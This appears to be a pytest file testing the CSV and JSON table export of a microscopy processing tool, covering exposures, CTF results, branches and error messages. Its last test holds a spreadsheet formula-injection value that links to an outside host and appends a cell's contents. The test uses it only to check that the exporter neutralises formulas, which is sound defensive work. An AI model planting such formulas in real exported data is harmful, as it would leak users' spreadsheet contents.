"""`icestream table`."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from icestream.cli.table import table
from icestream.exports.table import exposure_rows, result_rows, write_table
from icestream.store import queries
from icestream.store import tables as t
from report_session import SampleSession
from toy_record import desks


@pytest.fixture
def session(tmp_path: Path) -> SampleSession:
    sample = SampleSession(tmp_path / "session", start=1.7e9)
    sample.grow(12, settle=False)
    return sample


def test_a_row_for_each_exposure(
    session: SampleSession, capsys: pytest.CaptureFixture[str]
) -> None:
    table(session.folder)
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    known = queries.exposures(session.store)
    assert [row["exposure"] for row in rows] == [one.name for one in known]
    assert [int(row["number"]) for row in rows] == list(range(1, 13))
    assert rows[-1]["state"] == "going"
    assert rows[-1]["ctf.defocus"] == ""  # not measured yet
    assert rows[0]["grid_square"] == "8999138"
    defocus = queries.qualities(session.store, exposure=known[0].name, names=["ctf.defocus"])
    assert float(rows[0]["ctf.defocus"]) == defocus[0].value


def test_a_row_for_each_result_of_a_step(
    session: SampleSession, capsys: pytest.CaptureFixture[str]
) -> None:
    table(session.folder, "ctf", format_="json")
    rows = json.loads(capsys.readouterr().out)
    assert len(rows) == queries.step(session.store, "ctf").counts.done
    assert rows[0]["passed"] is True
    assert 5000 < rows[0]["defocus_u"] < 40000
    assert rows[0]["spectrum"].startswith("pool/")
    assert "curve" not in rows[0]  # only what is one value
    (batch,) = [*result_rows(session.store, "classify")] or [{}]
    assert batch == {}
    session.classify()
    (batch,) = result_rows(session.store, "classify")
    assert batch["batch"] == "batch_00001"


def test_the_deepest_step_is_believed(session: SampleSession) -> None:
    with session.store.write() as connection:
        rows = connection.execute(t.quality.select().where(t.quality.c.name == "ctf.defocus")).all()
        pick = session.step_ids["pick"]
        more = {"id": 99_999, "value": 7.0, "revision_id": pick, "step_id": pick}
        connection.execute(t.quality.insert().values(rows[0]._asdict() | more))
    first = next(iter(exposure_rows(session.store)))
    assert first["ctf.defocus"] == 7.0


def test_into_a_file(session: SampleSession, tmp_path: Path) -> None:
    table(session.folder, out=tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text().startswith("number,exposure,state,")


def test_a_step_that_is_not_there(session: SampleSession) -> None:
    with pytest.raises(LookupError, match="no step 'cft' in this session; it has import"):
        table(session.folder, "cft")


def test_an_empty_session_has_an_empty_table(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sample = SampleSession(tmp_path / "empty", start=1.7e9, documents=False)
    table(sample.folder, format_="json")
    assert json.loads(capsys.readouterr().out) == []


def test_of_another_branch(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source: Any = ("src", "toy.count", {}, {})
    for make in desks(tmp_path):
        made = make(source, ("a", "toy.add", {}, {"number": "src"}))
        made.find(1, 3)
        made.work()
        other: Any = ("a", "toy.add", {"add": 5, "fail": "item"}, {"number": "src"})
        made.branch("five", source, other)
        made.backfill()
        made.work()
        capsys.readouterr()  # what the log said meanwhile
        table(made.folder, "a", branch="five")
        (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
        assert (row["exposure"], row["revision"], row["value"]) == ("e1", "2", "6.0")
        rows = list(exposure_rows(made.store, "five"))
        assert [row.get("toy.value") for row in rows] == [6.0, None]
        assert [(row["branch"], row["state"], row["failed_at"]) for row in rows] == [
            ("five", "done", ""),
            ("five", "failed", "a"),
        ]
        assert [row["reasons"] for row in rows] == ["", "a: 3.0 is no good: take another"]
        assert [row["toy.value"] for row in exposure_rows(made.store, "main")] == [2.0, 4.0]
        with pytest.raises(LookupError, match="no branch 'gone'"):
            table(made.folder, branch="gone")


def test_no_spreadsheet_takes_a_name_for_a_formula() -> None:
    file = io.StringIO()
    name = '=HYPERLINK("http://x.org/"&A1)'
    write_table([{"exposure": name, "value": -1.5}, {"exposure": "-a", "value": 2}], "csv", file)
    rows = list(csv.DictReader(io.StringIO(file.getvalue())))
    assert [(row["exposure"], row["value"]) for row in rows] == [(f"'{name}", "-1.5"), ("'-a", "2")]
